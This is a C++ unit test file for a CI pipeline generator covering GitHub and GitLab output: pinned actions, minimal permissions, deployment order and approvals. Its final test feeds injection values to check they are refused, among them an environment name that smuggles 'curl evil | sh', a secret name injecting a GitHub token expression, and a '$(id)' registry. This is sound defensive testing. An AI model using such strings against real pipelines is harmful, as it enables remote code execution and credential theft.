#include "core/generate/ci.hpp"

#include "core/base/text.hpp"
#include "tests/unit/generate/sample.hpp"

#include <gmock/gmock.h>

namespace deployctl::generate {
namespace {

using testing::ContainsRegex;
using testing::HasSubstr;
using testing::Not;

std::string pipeline_of(CiSystem system, const project::Target& target,
                        const std::vector<project::Target>& environments = {}) {
  const auto text = pipeline(system, target, environments, {});
  return text ? *text : "error: " + base::to_string(text.error());
}

std::vector<project::Target> dev_and_prod() {
  auto prod = tests::shop();
  auto dev = prod;
  dev.environment = "dev";
  dev.approval = project::Approval::automatic;
  return {dev, prod};
}

TEST(GitHubPipeline, PinsActionsByCommit) {
  const auto text = pipeline_of(CiSystem::github, tests::shop(), dev_and_prod());
  int actions = 0;
  for (const auto line : base::split(text, '\n')) {
    if (line.find("uses:") != std::string_view::npos) {
      EXPECT_THAT(std::string(line), ContainsRegex("uses: [a-z-]+/[a-z-]+@[0-9a-f]+ # v[0-9.]+$"));
      EXPECT_EQ(line.find('#') - line.find('@'), 42U) << line;
      ++actions;
    }
  }
  EXPECT_EQ(actions, 4);
}

// The build job makes what most environments run; the images of another registry are made where they are used.
TEST(Pipelines, MakeTheImagesOfAnEnvironmentThatHasItsOwnInItsJob) {
  auto environments = dev_and_prod();
  for (auto& service : environments.back().services) {
    if (service.is_built()) {
      service.image = base::Located<std::string>{"registry.prod.example.com/shop/" + *service.name};
    }
  }
  environments.back().registry = base::Located<std::string>{"registry.prod.example.com/shop"};
  const auto github = pipeline_of(CiSystem::github, tests::shop(), environments);
  EXPECT_THAT(github, HasSubstr("run: deployctl rollout --env dev --yes\n"));
  EXPECT_THAT(github, HasSubstr("run: deployctl release --env prod --yes\n"));
  EXPECT_THAT(github, HasSubstr("--password-stdin registry.prod.example.com\n"));
  EXPECT_THAT(github,
              HasSubstr("the same two in the environment prod, which has images of its own: an account that may "
                        "push to registry.prod.example.com\n"));
  const auto gitlab = pipeline_of(CiSystem::gitlab, tests::shop(), environments);
  EXPECT_THAT(gitlab, HasSubstr("- deployctl rollout --env dev --yes\n"));
  EXPECT_THAT(gitlab, HasSubstr("- deployctl release --env prod --yes\n"));
  EXPECT_THAT(gitlab, HasSubstr("--password-stdin registry.prod.example.com\n"));
}

TEST(Pipelines, MakeAServiceThatOnlyOneEnvironmentHas) {
  auto environments = dev_and_prod();
  const auto built = std::ranges::find_if(environments.back().services, &project::Service::is_built);
  auto extra = *built;
  extra.name = base::Located<std::string>{"extra"};
  environments.back().services.push_back(extra);
  EXPECT_THAT(pipeline_of(CiSystem::github, tests::shop(), environments),
              HasSubstr("run: deployctl release --env prod --yes\n"));
}

TEST(GitHubPipeline, GivesTheLeastPermissions) {
  const auto text = pipeline_of(CiSystem::github, tests::shop(), dev_and_prod());
  EXPECT_THAT(text, HasSubstr("\npermissions: {}\n"));
  EXPECT_THAT(text, Not(HasSubstr("write")));
  EXPECT_THAT(text, Not(HasSubstr("pull_request_target")));
  EXPECT_THAT(text, Not(HasSubstr("cancel-in-progress: true")));
}

// An expression inside `run` is pasted into the script before the shell reads it.
TEST(GitHubPipeline, HasNoExpressionInsideCommands) {
  const auto text = pipeline_of(CiSystem::github, tests::shop(), dev_and_prod());
  bool is_script = false;
  std::size_t depth = 0;
  for (const auto line : base::split(text, '\n')) {
    const auto indentation = line.find_first_not_of(' ');
    if (indentation == std::string_view::npos) {
      continue;
    }
    if (is_script && indentation <= depth) {
      is_script = false;
    }
    const auto run = line.find("run:");
    if (run != std::string_view::npos) {
      is_script = true;
      depth = run;
    }
    EXPECT_FALSE(is_script && line.find("${{") != std::string_view::npos) << line;
  }
}

TEST(GitHubPipeline, DeploysOneEnvironmentAfterTheOther) {
  const auto text = pipeline_of(CiSystem::github, tests::shop(), dev_and_prod());
  EXPECT_THAT(text, HasSubstr("  deploy-dev:\n    needs: [build]\n"));
  EXPECT_THAT(text, HasSubstr("  deploy-prod:\n    needs: [build, deploy-dev]\n"));
  EXPECT_THAT(text, HasSubstr("    environment:\n      name: prod\n"));
  EXPECT_THAT(text, HasSubstr("run: deployctl rollout --env prod --yes\n"));
  EXPECT_THAT(text, HasSubstr("          PROD_DB_PASSWORD: ${{ secrets.PROD_DB_PASSWORD }}\n"));
}

TEST(GitHubPipeline, UsesItsOwnTokenForItsOwnRegistry) {
  auto target = tests::mini();
  target.registry = tests::at(std::string("ghcr.io/team"));
  const auto text = pipeline_of(CiSystem::github, target);
  EXPECT_THAT(text, HasSubstr("      packages: write\n"));
  EXPECT_THAT(text, HasSubstr("REGISTRY_PASSWORD: ${{ secrets.GITHUB_TOKEN }}\n"));
  EXPECT_THAT(text, Not(HasSubstr("secrets.REGISTRY_PASSWORD")));
}

TEST(GitLabPipeline, AsksByHandWhereTheEnvironmentWantsApproval) {
  const auto text = pipeline_of(CiSystem::gitlab, tests::shop(), dev_and_prod());
  const auto dev = text.find("deploy-dev:");
  const auto prod = text.find("deploy-prod:");
  ASSERT_LT(dev, prod);
  EXPECT_THAT(text.substr(dev, prod - dev), Not(HasSubstr("when: manual")));
  EXPECT_THAT(text.substr(prod), HasSubstr("when: manual"));
  EXPECT_THAT(text.substr(prod), HasSubstr("resource_group: shop-deploy-prod\n"));
}

TEST(Pipelines, WithoutABuildOnlyCheckAndDeploy) {
  auto target = tests::mini();
  target.services = {tests::image_service("redis", "redis:7")};
  for (const auto system : {CiSystem::github, CiSystem::gitlab}) {
    const auto text = pipeline_of(system, target);
    EXPECT_THAT(text, Not(HasSubstr("deployctl build")));
    EXPECT_THAT(text, Not(HasSubstr("docker login")));
    EXPECT_THAT(text, HasSubstr("needs: [check]"));
    EXPECT_THAT(text, HasSubstr("deployctl rollout --yes"));
  }
}

TEST(Pipelines, NameTheProjectManifestWhereItIsNotTheUsualOne) {
  auto target = tests::mini();
  target.manifest_name = "shop.yml";
  EXPECT_THAT(pipeline_of(CiSystem::gitlab, target), HasSubstr("deployctl validate --file shop.yml\n"));
  target.manifest_name = "a b.yml";
  EXPECT_EQ(pipeline_of(CiSystem::gitlab, target),
            "error: the project manifest's name 'a b.yml' cannot stand in a pipeline");
}

TEST(Pipelines, RefuseNamesThatWouldSaySomethingElse) {
  auto target = tests::shop();
  target.environment = "prod'; curl evil | sh #";
  EXPECT_THAT(pipeline_of(CiSystem::github, target), HasSubstr("error: environment"));
  target = tests::shop();
  target.services[0].secrets[0].source.name = "X }} && ${{ github.token";
  EXPECT_THAT(pipeline_of(CiSystem::github, target), HasSubstr("which a pipeline cannot name"));
  target = tests::shop();
  target.registry = tests::at(std::string("$(id)/team"));
  EXPECT_EQ(pipeline_of(CiSystem::gitlab, target), "error: '$(id)/team' is not a registry");
}

}  // namespace
}  // namespace deployctl::generate
